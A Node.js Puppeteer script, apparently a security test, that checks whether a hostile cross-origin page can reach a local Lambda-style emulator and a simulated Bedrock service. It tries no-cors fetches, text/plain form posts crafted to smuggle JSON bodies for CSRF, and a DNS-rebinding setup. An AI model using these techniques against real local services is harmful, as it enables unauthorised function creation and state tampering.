// Opens pages of a foreign origin in Chromium that try what a hostile page can against servers on loopback, and prints as
// JSON what they could read. The browser takes the name `evil.example` for this machine.
//
// node attack_servers.js <chromium> <address of the page's server> <emulator> <simulated bedrock>

"use strict";

const puppeteer = require("puppeteer-core");

const [chromium, site, emulator, bedrock] = process.argv.slice(2);
const json = (value) => JSON.stringify(value);
const evilFunction = json({
  FunctionName: "evil",
  Runtime: "python3.11",
  Role: "arn:aws:iam::111122223333:role/evil",
  Handler: "index.handler",
  Code: { ZipFile: "UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA==" },
});
const rule = json([{ operation: "*", kind: "access_denied" }]);
// Method, address, body.
const attempts = [
  ["GET", `${emulator}/`, undefined],
  ["POST", `${emulator}/2015-03-31/functions`, evilFunction],
  ["PUT", `${emulator}/evil-bucket`, undefined],
  ["GET", `${bedrock}/_simulation/state`, undefined],
  ["POST", `${bedrock}/_simulation/faults`, rule],
  ["POST", `${bedrock}/_simulation/faults/evil`, rule],
];

// In the page: how each fetch ended, in the given mode and with a header that asks for a preflight or without.
const fetchAll = (tab, mode, headers) =>
  tab.evaluate(
    (all, mode, headers) =>
      Promise.all(
        all
          .filter(([method]) => mode === "cors" || method !== "PUT")
          .map(([method, address, body]) =>
            fetch(address, { method, mode, headers, body }).then(
              (answer) => `${answer.type} ${answer.status}`,
              (error) => error.name,
            ),
          ),
      ),
    attempts,
    mode,
    headers,
  );

// A form whose only field, as plain text, is `<body up to "=">=<the rest>`.
async function postForm(browser, address, body) {
  const tab = await browser.newPage();
  await tab.goto(site);
  const [name, value] = [body.slice(0, body.indexOf("=")), body.slice(body.indexOf("=") + 1)];
  const [answer] = await Promise.all([
    tab.waitForNavigation(),
    tab.evaluate(
      (address, name, value) => {
        const form = document.createElement("form");
        Object.assign(form, { action: address, method: "post", enctype: "text/plain" });
        const field = Object.assign(document.createElement("input"), { name, value });
        form.append(field);
        document.body.append(form);
        form.submit();
      },
      address,
      name,
      value,
    ),
  ]);
  await tab.close();
  return answer.status();
}

// The page's own name leads to the server: to the browser the same origin.
async function rebind(browser, address) {
  const tab = await browser.newPage();
  const answer = await tab.goto(address.replace("127.0.0.1", "evil.example"));
  const status = answer.status();
  await tab.close();
  return status;
}

async function main() {
  const browser = await puppeteer.launch({
    executablePath: chromium,
    headless: true,
    args: ["--no-sandbox", "--disable-gpu", "--no-proxy-server", "--host-resolver-rules=MAP evil.example 127.0.0.1"],
  });
  try {
    const tab = await browser.newPage();
    await tab.goto(site);
    const found = {
      origin: await tab.evaluate(() => window.origin),
      cors: await fetchAll(tab, "cors", {}),
      preflight: await fetchAll(tab, "cors", { "x-amz-target": "evil" }),
      opaque: await fetchAll(tab, "no-cors", {}),
      forms: [
        await postForm(browser, `${emulator}/2015-03-31/functions`, evilFunction.replace("{", '{"Description":"=",')),
        await postForm(browser, `${bedrock}/_simulation/faults`, rule.replace("{", '{"match":"=",')),
      ],
      rebound: [await rebind(browser, `${emulator}/`), await rebind(browser, `${bedrock}/_simulation/state`)],
    };
    process.stdout.write(json(found));
  } finally {
    await browser.close();
  }
}

main();
